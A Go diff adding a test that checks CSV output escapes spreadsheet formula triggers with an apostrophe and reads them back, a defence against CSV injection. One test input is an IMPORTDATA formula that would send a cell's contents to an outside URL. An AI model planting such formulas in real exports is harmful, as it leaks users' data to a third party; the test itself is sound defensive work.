@@ -2,7 +2,9 @@ package table
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"reflect"
 	"strings"
@@ -73,6 +75,34 @@ func TestWrittenByAnother(t *testing.T) {
 	want := Round{Started: some().Started, Person: some().Person, Bag: "Bag, long", Hits: 58, Note: some().Note}
 	if err != nil || len(got) != 1 || !reflect.DeepEqual(got[0], want) {
 		t.Errorf("%+v %v", got, err)
+	}
+}
+
+// What a spreadsheet would work out stands behind an apostrophe, and comes back without it (OWASP, CSV injection).
+func TestFormulas(t *testing.T) {
+	at := 1.5
+	for _, text := range []string{`=IMPORTDATA("http://example.org/?"&B2)`, "+1", "-2 kg", "@home", "\tx", "\rx", "'=1",
+		"''+1", "'", "'x", "Oke", "", "a=b"} {
+		var out bytes.Buffer
+		w, err := WriteHits(&out)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := errors.Join(w.Row(Hit{some().Started, text, "Quay", &at, "", nil, nil, text, 0}), w.Done()); err != nil {
+			t.Fatal(err)
+		}
+		cells, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
+		if err != nil || strings.ContainsAny(cells[1][1][:min(1, len(cells[1][1]))], "=+-@\t\r") {
+			t.Errorf("%q stands there as %q, %v", text, cells, err)
+		}
+		if err := ReadHits(&out, func(_ int, h Hit) error {
+			if text = strings.TrimPrefix(text, "\r"); h.Person != text || h.Device != text {
+				t.Errorf("%q came back as %q", text, h.Person)
+			}
+			return nil
+		}); err != nil {
+			t.Errorf("%q: %v", text, err)
+		}
 	}
 }
 
